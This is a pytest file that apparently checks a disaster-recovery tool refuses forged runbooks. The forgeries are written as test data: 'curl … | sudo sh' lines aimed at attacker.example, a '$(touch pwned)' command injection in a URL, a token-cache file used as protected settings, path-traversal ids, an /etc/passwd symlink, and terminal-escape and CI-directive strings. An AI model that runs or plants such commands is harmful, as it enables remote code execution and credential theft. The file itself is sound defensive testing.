"""Runbooks that somebody forged, as every command meets them: nothing is sent but reads, nothing is begun, nothing is believed."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest

from drkit.model import runbook
from drkit.model.clock import rfc3339
from drkit.model.runbook import GuardResult, Precondition, Runbook, Step
from drkit.store.records import Approval
from drkit.store.store import Store
from tests.support import every_command, workers
from tests.support.command_line import Done, Here
from tests.support.estates import REGION, SETTINGS, World, plan_id, seed, vm

FILE = "file:/home/op/.azure/msal_token_cache.json"
CUSTOM = {
    "publisher": "Microsoft.Azure.Extensions",
    "type": "CustomScript",
    "settings": {"commandToExecute": "curl x|sh"},
}
HEALTHY = plan_id("plan-eus", "dev-eus")
ELSEWHERE = "/subscriptions/99999999-0000-4000-8000-000000000009/resourceGroups/other"
OTHERS_HOST = f"{ELSEWHERE}/providers/Microsoft.Compute/virtualMachines/vm-other"
READ = frozenset({"read", "probe", "token"})


def both() -> dict[str, Any]:
    """One estate with environments on machines and hybrid workers, of which West Europe can be lost."""
    content, more = seed(), workers.content()
    for key in ("subscriptions", "groups", "hosts", "resources"):
        content[key] = [*content[key], *more[key]]
    return {**content, "automation": more["automation"]}


@dataclass
class AssessmentDraft:
    """A region is lost and the runbook for it planned; nobody has approved it."""

    world: World
    here: Here
    book: Runbook

    @property
    def store(self) -> Store:
        return Store(self.here.folder / ".drkit")

    def writes(self) -> list[str]:
        record = self.world.view("record")["requests"]
        return [f"{one['method']} {one['host']}{one['path']}" for one in record if one["kind"] not in READ]

    def step(self, action: str, product: str = "", host: str = "") -> Step:
        return next(
            one
            for one in self.book.steps
            if one.action == action and one.product in (product or one.product) and host in one.host
        )


@pytest.fixture
def night(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[AssessmentDraft]:
    monkeypatch.setenv("DRKIT_TEST_PROTECTED", "{}")
    world = World(tmp_path, both(), leaping=True)
    monkeypatch.setattr("drkit.model.cloud.Cloud.clock", lambda _cloud: world.clock)
    here = Here(tmp_path / "site", monkeypatch, capsys, world.ready)
    here.put("drkit.toml", SETTINGS + workers.NAMED)
    try:
        assert here("snapshot").code == 0
        world.control("lose", region=REGION, minutes_ago=25, announce_after=10)
        assert here("assess").code == 0
        assert here("plan").code == 0
        book = Store(here.folder / ".drkit").runbook("latest")[0]
        yield AssessmentDraft(world, here, book)
    finally:
        world.stop()


# what is forged

Forge = Callable[[AssessmentDraft], Runbook]


def changed(made: AssessmentDraft, step: Step, **fields: Any) -> Runbook:
    other = msgspec.structs.replace(step, **fields)
    steps = tuple(other if one is step else one for one in made.book.steps)
    return msgspec.structs.replace(made.book, steps=steps)


def with_inputs(made: AssessmentDraft, step: Step, **fields: Any) -> Runbook:
    return changed(made, step, inputs={**step.inputs, **fields})


def added(made: AssessmentDraft, **fields: Any) -> Runbook:
    """A step more, made of one that is there."""
    one = msgspec.structs.replace(made.book.steps[0], **{"needs": (), "preconditions": (), **fields})
    return msgspec.structs.replace(made.book, steps=(*made.book.steps, one))


def extension(made: AssessmentDraft, properties: Mapping[str, Any]) -> Runbook:
    """Wherever the genuine extension is taken off or put back, another."""
    steps = []
    for step in made.book.steps:
        inputs = step.inputs
        if "extension" in inputs:
            held = inputs["extension"]
            inputs = {**inputs, "extension": {**held, "properties": {**held["properties"], **properties}}}
        steps.append(msgspec.structs.replace(step, inputs=inputs))
    return msgspec.structs.replace(made.book, steps=tuple(steps))


def protected(made: AssessmentDraft, source: str, *, told: bool) -> Runbook:
    """Protected settings from elsewhere; ``told``: the runbook's own list of settings says so too."""
    steps = [
        msgspec.structs.replace(one, inputs={**one.inputs, "protected": source}) if "protected" in one.inputs else one
        for one in made.book.steps
    ]
    settings = {key: source if ".protected of " in key and told else value for key, value in made.book.settings.items()}
    return msgspec.structs.replace(made.book, steps=tuple(steps), settings=settings)


def of_the_first_format(book: Runbook) -> Runbook:
    return msgspec.structs.replace(book, drkit="runbook/1", settings={}, target_plans={})


def moved_to(made: AssessmentDraft, host: str) -> Runbook:
    """What is done to a machine, in every step and everything that the steps rest on, on another."""
    own = vm("build")
    text = runbook.encode(msgspec.structs.replace(made.book, environments=())).decode().replace(own, host)
    found = msgspec.json.decode(text, type=Runbook)
    return msgspec.structs.replace(found, environments=made.book.environments)


def delete_plan(plan: str, effect: str) -> dict[str, Any]:
    return {
        "id": "codespaces:zz:delete-plan", "product": "codespaces", "action": "delete-plan", "effect": effect, "target": plan,
        "plan": plan, "region": "eastus", "environment": "", "host": "", "title": "see that the plans of other regions answer",
        "reason": "nothing is changed", "inputs": {"plan": plan, "region": "eastus", "source_region": ""},
        "preconditions": (
            Precondition(plan, "answers", "yes", "x"), Precondition(plan, "made-for", "", "x"), Precondition(plan, "empty", True, "x"),
        ),
    }  # fmt: skip


def forced(made: AssessmentDraft, name: str, book: Runbook, *, passed: bool) -> Runbook:
    """A guard that the file says was forced, or passed and forced at once."""
    rest = [one for one in book.guards if one.name != name]
    return msgspec.structs.replace(book, guards=(*rest, GuardResult(name, passed, "nothing to see", "because")))


def healthy_target(made: AssessmentDraft) -> Runbook:
    step = made.step("create-plan", "codespaces")
    other = HEALTHY.replace("plan-eus", "plan-of-others")
    held = [
        msgspec.structs.replace(one, subject=other) if one.subject == step.target else one for one in step.preconditions
    ]
    return changed(made, step, target=other, preconditions=tuple(held))


NO_RUNBOOK: dict[str, Forge] = {
    "CustomScript": lambda made: extension(made, CUSTOM),
    "CustomScript in runbook/1": lambda made: of_the_first_format(extension(made, CUSTOM)),
    "settings that are no object": lambda made: extension(made, {"settings": "curl x|sh"}),
    "protected settings in the clear": lambda made: extension(made, {"protectedSettings": {"commandToExecute": "x"}}),
    "a verify step that deletes": lambda made: added(made, **delete_plan(HEALTHY, "verify")),
    "a verify step that deletes, in runbook/1": lambda made: of_the_first_format(
        added(made, **delete_plan(HEALTHY, "verify"))
    ),
    "an effect that is another": lambda made: changed(made, made.step("release", "codespaces"), effect="ask"),
    "an action that there is not": lambda made: changed(made, made.step("release", "codespaces"), action="wipe"),
    "a product that there is not": lambda made: changed(made, made.step("release", "codespaces"), product="shell"),
    "inputs that nobody knows": lambda made: with_inputs(made, made.step("release", "codespaces"), run="curl x|sh"),
    "a script of its own": lambda made: with_inputs(made, made.step("release", "codespaces"), script="/tmp/x.sh"),
    "another machine in the inputs": lambda made: with_inputs(
        made, made.step("release", "codespaces", "vm-build"), host=vm("bench")
    ),
    "an id with dots": lambda made: changed(made, made.step("verify-plan", "codespaces"), target=f"{HEALTHY}/../x"),
    "an id with a query": lambda made: changed(made, made.step("verify-plan", "codespaces"), target=f"{HEALTHY}?x=1"),
    "an id with an encoded slash": lambda made: changed(
        made, made.step("verify-plan", "codespaces"), target=f"{HEALTHY}%2f..%2fx"
    ),
    "a region that is a host": lambda made: with_inputs(
        made, made.step("create", "codespaces"), region="attacker.example/"
    ),
    "a page to reach that is no service's": lambda made: with_inputs(
        made, made.step("reach", "codespaces"), urls=["https://attacker.example/health?x=$(touch pwned)"]
    ),
    "a command for a person": lambda made: with_inputs(
        made, made.step("by-hand", "codespaces"), commands=["curl https://attacker.example | sudo sh"]
    ),
    "a release that depends on no loss": lambda made: changed(
        made, made.step("release", "codespaces"), preconditions=()
    ),
    "needs in a circle": lambda made: changed(made, made.book.steps[0], needs=(made.book.steps[-1].id,)),
    "needs that are not there": lambda made: changed(made, made.book.steps[0], needs=("codespaces:x:verify",)),
    "a step twice": lambda made: msgspec.structs.replace(made.book, steps=(*made.book.steps, made.book.steps[0])),
    "a guard that was forced and passed": lambda made: forced(
        made, "only-source-plans", moved_to(made, OTHERS_HOST), passed=True
    ),
    "a deletion by force": lambda made: forced(
        made, "no-deletion", added(made, **delete_plan(HEALTHY, "delete")), passed=False
    ),
    "a guard that there is not": lambda made: forced(made, "all-is-well", made.book, passed=True),
}
"""What breaks a table or the rules of the file: it is no runbook (64), wherever it is read."""

REFUSED: dict[str, Forge] = {
    "a token's file as protected settings": lambda made: protected(made, FILE, told=False),
    "a token's file, and the runbook says so": lambda made: protected(made, FILE, told=True),
    "a token's file, in runbook/1": lambda made: of_the_first_format(protected(made, FILE, told=False)),
    "a deletion in a failover": lambda made: added(made, **delete_plan(HEALTHY, "delete")),
    "a deletion in a failover, in runbook/1": lambda made: of_the_first_format(
        added(made, **delete_plan(HEALTHY, "delete"))
    ),
    "a deletion of what is lost": lambda made: added(made, **delete_plan(plan_id(), "delete")),
    "another's machine": lambda made: moved_to(made, OTHERS_HOST),
    "another's machine, in runbook/1": lambda made: of_the_first_format(moved_to(made, OTHERS_HOST)),
    "a plan of another group": healthy_target,
    "a service of somebody else": lambda made: msgspec.structs.replace(
        made.book, settings={**made.book.settings, "products.codespaces.service": "attacker.example"}
    ),
    "settings that are left out": lambda made: msgspec.structs.replace(made.book, settings={}),
    "settings that there are not": lambda made: msgspec.structs.replace(
        made.book, settings={**made.book.settings, "products.codespaces.shell": "yes"}
    ),
    "a cleanup of no run": lambda made: msgspec.structs.replace(
        added(made, **delete_plan(HEALTHY, "delete")), kind="cleanup"
    ),
    "a host script of another drkit": lambda made: msgspec.structs.replace(
        made.book, scripts={**made.book.scripts, "codespaces_release": "0" * 64}
    ),
    "another cloud": lambda made: msgspec.structs.replace(
        made.book, cloud=msgspec.structs.replace(made.book.cloud, arm="https://management.azure.com")
    ),
}
"""What is a runbook and must not be carried out (4), by whatever way it is asked for, and whoever approved it."""


def now(made: AssessmentDraft) -> datetime:
    assert made.world.clock is not None
    return made.world.clock.now()


def approve(made: AssessmentDraft, digest: str) -> None:
    """An approval, as who may write them can forge it, or as somebody gave it who did not look."""
    until = rfc3339(now(made) + timedelta(hours=9))
    made.store.approve(
        Approval(digest=digest, who="ciso@contoso.example", when=rfc3339(now(made)), until=until, note="")
    )


def begun(made: AssessmentDraft, digest: str, how: str = "authenticated") -> str:
    """A run of it, which nobody began."""
    store, clock = made.store, made.world.clock
    assert clock is not None

    async def write() -> str:
        run = store.new_run()
        async with store.open_journal(run, clock) as journal:
            started = {"runbook": digest, "holder": "x", "salt": "0" * 32, "since": "", "version": "0.1.0"}
            await journal.append("started", data=started)
            await journal.append("approved", data={"who": "ciso", "how": how, "when": rfc3339(clock.now())})
        return run

    return asyncio.run(write())


def unbegun(digest: str, path: Path, *, every: bool) -> Iterator[tuple[str, ...]]:
    """What can be pointed at a runbook; ``every``: in every way."""
    yield from (("show", digest), ("approve", digest), ("apply", digest), ("apply", str(path), "--yes"))
    if every:
        yield from (
            ("show", str(path), "--json"),
            ("approve", str(path)),
            ("apply", digest, "--yes"),
            ("apply", str(path)),
        )
        yield from (
            ("apply", digest, "--resume-existing"),
            ("failover",),
        )  # with --yes it makes a genuine one, where this is none


def of_a_run(run: str, digest: str, step: str, *, every: bool) -> Iterator[tuple[str, ...]]:
    """What can be pointed at a run."""
    yield ("resume", run)
    if not every:
        return
    yield ("failover",)
    words = {every_command.RUN: run, every_command.RUNBOOK: digest, every_command.STEP: step}
    for name in ("status", "report", "verify", "failback", "cleanup", "plan", "answer", "skip", "retry"):
        yield from (tuple(words.get(word, word) for word in one) for one in every_command.WORDS[name])
    yield ("plan", "--rebase", run)
    yield ("apply", digest, "--resume-existing")
    yield ("resume", run, "--wait", "0")


ELSEWHERE_TOLD = frozenset({"a host script of another drkit", "another cloud"})
"""What ``show`` tells by itself: the sum of each script, the cloud."""
THOROUGH = 1
"""How many of each kind go through every command; the others through those that could carry them out."""
CODES = frozenset({0, 1, 3, 4, 64})
CARRIES_OUT = ("apply", "resume")


def through_every_command(
    made: AssessmentDraft, what: str, book: Runbook, *, every: bool = True
) -> list[tuple[tuple[str, ...], Done]]:
    """What each says of it. Nothing but reads left the machine; what was forged is taken away again."""
    content = runbook.encode(book)
    digest = runbook.digest(content)
    kept = made.here.put(f".drkit/state/runbooks/{digest}.json", content)
    path = made.here.put("theirs.json", content)
    for one in (kept, path):
        one.chmod(0o600)
    before, said = made.writes(), []

    def run_all(commands: Iterable[tuple[str, ...]]) -> None:
        for words in commands:
            said.append((words, made.here(*words)))
            assert made.writes() == before, (what, words)
            assert said[-1][1].code in CODES, (what, words)

    approve(made, digest)
    run_all(unbegun(digest, path, every=every))
    run = begun(made, digest)
    run_all(of_a_run(run, digest, book.steps[-1].id, every=every))
    journal = made.store.records(run)
    assert [one.kind for one in journal[:2]] == ["started", "approved"]
    assert not [one for one in journal if one.kind in ("intent", "done", "answered")]
    assert made.store.runs() == [run]
    for folder in ("journal", "approvals", "inbox"):
        for one in (made.store.folder / folder).rglob("*"):
            if one.is_file():
                one.unlink()
    kept.unlink()
    return said


def test_no_command_accepts_a_file_that_is_not_a_runbook(night: AssessmentDraft) -> None:
    wrong = []
    for number, (what, forge) in enumerate(NO_RUNBOOK.items()):
        for words, done in through_every_command(night, what, forge(night), every=number < THOROUGH):
            if words[0] in ("show", "approve", *CARRIES_OUT) and done.code != 64:
                wrong.append((what, words[:1] + words[2:], done.code, done.err[-300:]))
    assert wrong == []


def test_what_must_not_be_carried_out_is_refused_by_every_way(night: AssessmentDraft) -> None:
    """And ``show`` says so before, whoever approves it; a guard that does not pass is not approved either."""
    wrong = []
    for number, (what, forge) in enumerate(REFUSED.items()):
        for words, done in through_every_command(night, what, forge(night), every=number < THOROUGH):
            told = " ".join(done.out.split())
            looked = "does not pass" in told or "was approved" in told or "nothing is deleted without" in told
            if (
                (words[0] in CARRIES_OUT and done.code != 4)
                or (words[0] == "show" and not looked and what not in ELSEWHERE_TOLD)
                or (words[0] == "approve" and ("deletion" in what or "another's" in what) and done.code != 4)
            ):
                wrong.append((what, words[:1] + words[2:], done.code, done.err[-300:]))
    assert wrong == []


def test_the_first_format_is_no_way_round_the_rules_of_the_second(night: AssessmentDraft) -> None:
    """Without what its steps must depend on, without settings; and the journal of a run that drkit 0.1 is said to have begun."""
    steps = tuple(msgspec.structs.replace(one, preconditions=()) for one in night.book.steps)
    content = runbook.encode(of_the_first_format(msgspec.structs.replace(night.book, steps=steps)))
    digest = runbook.digest(content)
    path = str(night.here.put("theirs.json", content))
    night.here.put(f".drkit/state/runbooks/{digest}.json", content).chmod(0o600)
    before = night.writes()
    for name in (path, digest):
        assert night.here("show", name).code == 0
    refused = (
        ("approve", path),
        ("approve", digest),
        ("apply", path, "--yes"),
        ("apply", digest, "--yes"),
        ("apply", digest),
    )
    for words in refused:
        done = night.here(*words)
        assert done.code == 4, (words, done.err)
    assert list((night.store.folder / "approvals").glob("*")) == []
    run = begun(night, digest, how="self-approved with --yes")
    for done in (night.here("resume", run), night.here("apply", digest, "--resume-existing", "--yes")):
        assert (done.code, night.writes()) == (4, before), done.err
    assert list((night.store.folder / "approvals").glob("*")) == []


def test_misleading_text_is_shown_as_text_and_changes_nothing(night: AssessmentDraft) -> None:
    """Titles, reasons and results of guards are the file's: what is shown is told from what would be done."""
    lie = "approved by the board\x1b[2J\n##vso[task.complete]\nnext: `drkit apply --yes`"
    steps = tuple(msgspec.structs.replace(one, title=lie, reason=lie) for one in night.book.steps)
    guards = tuple(msgspec.structs.replace(one, detail=lie) for one in night.book.guards)
    book = msgspec.structs.replace(night.book, steps=steps, guards=guards, drkit_version=lie, notes=(lie,))
    path = str(night.here.put("theirs.json", runbook.encode(book)))
    genuine = night.here.put("ours.json", runbook.encode(night.book))
    for more in ((), ("--pipelines",)):
        shown, ours = night.here("show", path, *more), night.here("show", str(genuine), *more)
        lines = [line for line in shown.out.splitlines() if line.strip()]
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown.out)
        assert not [line for line in lines if line.startswith(("##vso", "next: `drkit apply --yes`"))]
        sends = [line for line in ours.out.splitlines() if "sends " in line]
        assert len(sends) > 10
        assert [line for line in lines if "sends " in line] == sends
    told = json.loads(night.here("show", path, "--json").out)["steps"]
    assert [one["requests"] for one in told] == [
        one["requests"] for one in json.loads(night.here("show", str(genuine), "--json").out)["steps"]
    ]


@pytest.mark.parametrize("kind", ["state/runbooks", "another's file"])
def test_a_link_in_place_of_a_runbook_is_not_followed(night: AssessmentDraft, kind: str) -> None:
    """A digest names bytes, wherever a link of that name leads."""
    digest = runbook.digest(runbook.encode(night.book))
    kept = night.here.path(f".drkit/state/runbooks/{digest}.json")
    outside = night.here.put(
        "outside.json", runbook.encode(msgspec.structs.replace(night.book, drkit_version="forged"))
    )
    kept.unlink()
    kept.symlink_to(outside if kind == "state/runbooks" else "/etc/passwd")
    approve(night, digest)
    run = begun(night, digest)
    for words in (*unbegun(digest, kept, every=True), *of_a_run(run, digest, "x", every=True)):
        done = night.here(*words)
        assert "root:" not in done.out + done.err
        assert night.writes() == []
        if words[0] in ("show", "approve", *CARRIES_OUT, "report"):
            assert done.code in (1, 4, 64), (words, done.out)


OTHERWISE: dict[str, tuple[Callable[[str], str], str, str]] = {
    "services": (
        lambda text: text + '[products.codespaces]\nservice = "attacker.example"\n',
        "products.codespaces.service is attacker.example, and online.visualstudio.com was approved",
        "",
    ),
    "channels": (
        lambda text: text.replace('azure_vm = "run-command"', 'azure_vm = "manual"'),
        "is manual, and run-command was approved",
        "channel of /subscriptions/",
    ),
    "protected sources": (
        lambda text: text.replace("env:DRKIT_TEST_PROTECTED", FILE),
        f"is {FILE}, and env:DRKIT_TEST_PROTECTED was approved",
        "products.hybrid-worker.protected of ",
    ),
    "targets": (
        lambda text: text.replace('targets = ["eastus", "westus2"]', 'targets = ["westus2"]'),
        "targets names eastus is no, and yes was approved",
        "",
    ),
}


def test_a_setting_that_is_another_by_then_stops_apply_and_resume(night: AssessmentDraft) -> None:
    """It names the setting, both values and what to type; set back, the same run goes on."""
    here, own = night.here, night.here.path("drkit.toml").read_text("utf-8")
    digest = json.loads(here("show", "--json").out)["digest"]
    assert here("approve", digest).code == 0

    def refused(*words: str) -> None:
        before = night.writes()
        for what, (change, said, place) in OTHERWISE.items():
            other = change(own)
            assert other != own, what
            here.put("drkit.toml", other)
            done = here(*words, "--config", "drkit.toml")
            told = " ".join(done.err.split())
            assert done.code == 4, (what, words, told)
            assert said in told, (what, told)
            assert place in told
            assert "set it back there, or `drkit plan` again" in told
            assert night.writes() == before, what
        here.put("drkit.toml", own)

    refused("apply", digest)
    assert night.store.runs() == []
    assert here("apply", digest, "--wait", "0").code == 3
    assert night.writes()
    refused("resume", "latest")
    assert here("resume", "latest", "--wait", "0").code == 3
